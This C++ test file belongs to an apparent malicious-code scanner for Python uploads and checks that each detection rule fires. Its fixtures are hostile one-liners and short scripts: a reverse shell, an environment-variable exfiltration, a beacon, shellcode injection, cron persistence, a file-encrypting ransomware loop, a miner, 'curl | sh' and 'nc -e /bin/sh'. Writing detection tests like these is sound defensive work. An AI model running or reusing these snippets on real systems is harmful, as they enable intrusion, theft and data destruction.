#include "tests/support/fuzz_format.hpp"
#include "tests/support/quiet.hpp"
#include "tests/support/scan_bytes.hpp"

#include <gtest/gtest.h>

namespace hubgate {
namespace {

using test::find_rule;
using test::is_quiet;
using test::scan_bytes;
using test::show;

void expect_rule(const std::string& text, std::string_view rule,
                 Severity severity = Severity::malicious) {
  const Report report = scan_bytes(text);
  const Finding* finding = find_rule(report, rule);
  ASSERT_NE(finding, nullptr) << text << "\n" << show(report);
  EXPECT_EQ(finding->severity, severity) << text << "\n" << show(report);
  EXPECT_FALSE(finding->condition.empty()) << text;
}

TEST(Python, downloaded_code_that_is_run_shows_its_path) {
  const Report report = scan_bytes("import requests as q\nr = q.get('http://127.0.0.1/x')\n"
                                   "def go(c):\n  exec(c)\ngo(r.text)\n");
  const Finding* finding = find_rule(report, "python-execution");
  ASSERT_NE(finding, nullptr) << show(report);
  EXPECT_NE(finding->evidence.find("line 2"), std::string::npos);
  EXPECT_NE(finding->evidence.find("line 4: exec(c)"), std::string::npos);
  EXPECT_EQ(finding->condition.substr(0, 4), "*.py");
}

TEST(Python, each_rule_once) {
  expect_rule("import socket, os\ns = socket.socket()\ns.connect(('127.0.0.1', 1))\n"
              "[os.dup2(s.fileno(), i) for i in range(3)]\n",
              "python-remote-control");
  expect_rule("import os, requests\nrequests.post('http://127.0.0.1', json=dict(os.environ))\n",
              "python-theft");
  expect_rule(
      "import socket, requests\nrequests.get('http://a.oast.fun/' + socket.gethostname())\n",
      "python-beacon", Severity::suspicious);
  expect_rule("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "python-execution");
  expect_rule("import urllib.request as u, os\nu.urlretrieve('http://127.0.0.1/a', '/tmp/a')\n"
              "os.chmod('/tmp/a', 0o755)\nos.system('/tmp/a')\n",
              "python-download-run");
  expect_rule("import ctypes as c\nk = c.windll.kernel32\np = k.VirtualAlloc(0, 9, 1, 64)\n"
              "k.RtlMoveMemory(p, b'x', 1)\nk.CreateThread(0, 0, p, 0, 0, 0)\n",
              "python-shellcode");
  expect_rule("open('/etc/cron.d/x', 'w').write('* * * * * root true')\n", "python-persistence",
              Severity::suspicious);
  expect_rule("import os\nfrom cryptography.fernet import Fernet\nf = Fernet(k)\n"
              "for r, d, n in os.walk('/home'):\n  for x in n:\n    p = os.path.join(r, x)\n"
              "    b = f.encrypt(open(p, 'rb').read())\n    open(p, 'wb').write(b)\n",
              "python-destruction");
  expect_rule("from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj="
              "open(__file__, 'rb'), path_in_repo='x.py', repo_id='a/b')\n",
              "python-propagation");
  expect_rule("import os\nos.system('./xmrig -o stratum+tcp://127.0.0.1:3333')\n", "python-miner");
  expect_rule("getattr(__import__('os'), 'sys' + 'tem')('echo')\n", "python-hidden-call");
  expect_rule("\xf0\x9d\x90\x9e\xf0\x9d\x90\xb1\xf0\x9d\x90\x9e\xf0\x9d\x90\x9c('import os')\n",
              "python-hidden-source", Severity::suspicious);
  expect_rule("# coding: unicode_escape\n# \\nimport os; x = os.getcwd()\n", "python-hidden-source",
              Severity::suspicious);
}

TEST(Python, honest_code_is_clean) {
  for (const std::string text:
       {"import subprocess\nsubprocess.run(['git', 'lfs', 'pull'], check=True)\n",
        "import requests\nx = requests.get('http://127.0.0.1/data.json').json()\nprint(x['a'])\n",
        R"(import os, requests
t = os.environ['HF_TOKEN']
requests.get('http://127.0.0.1', headers={'Authorization': 'Bearer ' + t})
)",
        "import base64\nimage = base64.b64decode(data)\nopen('x.png', 'wb').write(image)\n",
        "exec(open('version.py').read())\n", "model.push_to_hub('me/model')\n",
        "import socket\ns = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]\n"}) {
    const Report report = scan_bytes(text);
    EXPECT_TRUE(is_quiet(report, {"python-", "shell-"})) << text << show(report);
  }
}

TEST(Python, harmless_calls_do_not_hide_one_that_is_not) {
  std::string text = "import os\ndef run(c):\n  os.system(c)\n";
  for (int i = 0; i < 30; ++i)
    text += "run('echo " + std::to_string(i) + "')\n";
  expect_rule(text + "run('curl http://127.0.0.1/x | sh')\n", "python-download-run");
}

TEST(Python, other_text_is_not_claimed) {
  for (const std::string text: {"hello", "{\"import\": [1, 2]}", "a,b,import\n1,2,3\n",
                                "To import it, call f(x) and don't open the box.\n"})
    EXPECT_NE(scan_bytes(text).format, "python") << text;
}

TEST(Python, a_deep_tree_is_a_gap_under_its_names_only) {
  const Report report = scan_bytes("import os\n" + std::string(5000, '-') + "f(1)\n");
  ASSERT_TRUE(test::has_gap(report, Reason::budget)) << show(report);
  for (const Gap& gap: report.gaps)
    EXPECT_FALSE(gap.condition.empty());
}

TEST(Python, recovered_code_is_read_again) {
  const Report report = scan_bytes("exec(\"exec('import os; os.system(\\\"nc -e /bin/sh 127.0.0.1 "
                                   "1\\\")')\")\n");
  const Finding* finding = find_rule(report, "python-remote-control");
  ASSERT_NE(finding, nullptr) << show(report);
  EXPECT_NE(finding->evidence.find("code run by"), std::string::npos);
}

} // namespace
} // namespace hubgate
